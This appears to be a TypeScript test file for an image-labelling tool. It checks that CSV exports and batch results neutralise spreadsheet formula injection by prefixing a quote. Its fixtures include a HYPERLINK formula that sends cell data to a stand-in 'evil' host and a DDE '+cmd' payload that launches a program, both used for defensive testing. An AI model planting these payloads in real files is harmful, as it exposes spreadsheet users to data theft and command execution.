// Spreadsheet formula injection (issue 26, finding 5): labels such as =HYPERLINK(...) and +cmd|...
// come out of `datasets export --format csv`, the CLI batch CSV and the HTTP batch results with a leading
// quote (OWASP's rule), so a spreadsheet shows them as text; reading an export back gives the labels again.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { KeyStore } from '../../src/auth/index.js';
import { importDataset } from '../../src/dataset/index.js';
import { generateSyntheticCatalogue } from '../../src/demo/index.js';
import { resolveHome, type HomeLayout } from '../../src/home/index.js';
import { trainVersion } from '../../src/jobs/index.js';
import { Registry, versionArn } from '../../src/registry/index.js';
import { tinyOnnxModel } from '../backbone/fixtures.js';
import { runCli } from '../helpers/cli.js';
import { tempDir } from '../helpers/fixtures.js';
import { TINY_ROW, call, startServer, statusOf, until, type Running } from './helpers.js';

const HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"click")';
const CMD = "+cmd|' /C calc'!A0";
const FORMULA_START = /^[=+\-@\t\r]/;

let root: string;
let home: HomeLayout;
let registry: Registry;
let photos: string;
let arn: string;

before(async () => {
  root = tempDir(undefined, 'serve-csv');
  home = resolveHome(path.join(root, 'home'), {});
  fs.mkdirSync(path.join(home.models, 'tiny'), { recursive: true });
  fs.writeFileSync(path.join(home.models, 'tiny', 'model.onnx'), tinyOnnxModel(8));
  fs.writeFileSync(path.join(home.models, 'tiny.backbone.json'), JSON.stringify(TINY_ROW));
  photos = path.join(root, 'photos');
  const generated = await generateSyntheticCatalogue(photos, { perLabel: 6, size: 96 });
  // A CSV gives two of the labels formula names (a CSV label may hold "/" and quotes).
  const names = [HYPERLINK, CMD];
  const rows = ['path,label'];
  generated.labels.slice(0, 2).forEach((label, i) => {
    for (const file of fs.readdirSync(path.join(photos, label)).sort()) rows.push(`${label}/${file},"${names[i]!.replaceAll('"', '""')}"`);
  });
  fs.writeFileSync(path.join(photos, 'labels.csv'), `${rows.join('\n')}\n`);
  registry = Registry.open(home.database);
  registry.projects.create('shop');
  await importDataset(registry, home, 'shop', path.join(photos, 'labels.csv'));
  arn = versionArn((await trainVersion(registry, home, 'shop', { backbone: 'tiny', workers: 1 })).version);
});
after(() => registry.close());

/** Every cell of a CSV, after the header. */
const cells = (text: string): string[] => (parse(text) as string[][]).slice(1).flat();

test('datasets export --format csv writes formula labels behind a quote, and importing the export gives them back', async () => {
  const out = path.join(root, 'export', 'shop.csv');
  const exported = await runCli(home.root, 'datasets', 'export', 'shop', '--out', out, '--format', 'csv');
  assert.equal(exported.code, 0, exported.stderr);
  const labels = (parse(fs.readFileSync(out, 'utf8'), { columns: true }) as { label: string }[]).map((row) => row.label);
  assert.deepEqual([...new Set(labels)].sort(), [`'${CMD}`, `'${HYPERLINK}`]);
  assert.deepEqual(cells(fs.readFileSync(out, 'utf8')).filter((cell) => FORMULA_START.test(cell)), []);
  registry.projects.create('again');
  await importDataset(registry, home, 'again', out);
  assert.deepEqual([...new Set(registry.entries.counts(registry.projects.get('again').id).map((row) => row.label))].sort(), [CMD, HYPERLINK].sort());
});

test('the CLI batch CSV writes no cell a spreadsheet would run', async () => {
  const out = path.join(root, 'batch.csv');
  const run = await runCli(home.root, 'batch', arn, photos, '--out', out, '--min-confidence', '0');
  assert.equal(run.code, 0, run.stderr);
  const text = fs.readFileSync(out, 'utf8');
  assert.ok(text.includes(`'${HYPERLINK.replaceAll('"', '""')}`) || text.includes(`'${HYPERLINK}`), text.slice(0, 400));
  assert.deepEqual(cells(text).filter((cell) => FORMULA_START.test(cell)), []);
});

test('HTTP batch results in CSV write no cell a spreadsheet would run, and name images relative to the import root', async () => {
  let running: Running | undefined;
  try {
    running = await startServer({ home, registry }, {}, { importRoots: [photos] });
    const key = new KeyStore(registry, home).create('curator', 'train');
    const bearer = `Bearer ${key.id}:${key.secret}`;
    assert.equal((await call(running, 'StartProjectVersion', { ProjectVersionArn: arn })).status, 200);
    await statusOf(running, arn, 'RUNNING');
    const started = await call(running, 'batches', { ProjectVersionArn: arn, Source: photos, Format: 'csv', MinConfidence: 0 }, bearer);
    assert.equal(started.status, 200, JSON.stringify(started.body));
    await until(async () => {
      const status = await (await fetch(`${running!.url}/v1/batches/${started.body.BatchId}`, { headers: { authorization: bearer } })).json();
      return status.Status === 'SUCCEEDED' ? true : undefined;
    }, 'the batch');
    const text = await (await fetch(`${running.url}/v1/batches/${started.body.BatchId}/results`, { headers: { authorization: bearer } })).text();
    assert.deepEqual(cells(text).filter((cell) => FORMULA_START.test(cell)), []);
    assert.ok(text.includes(`'${HYPERLINK.replaceAll('"', '""')}`), text.slice(0, 400));
    assert.ok(!text.includes(root), 'no server path in the results');
  } finally {
    await running?.server.close();
  }
});
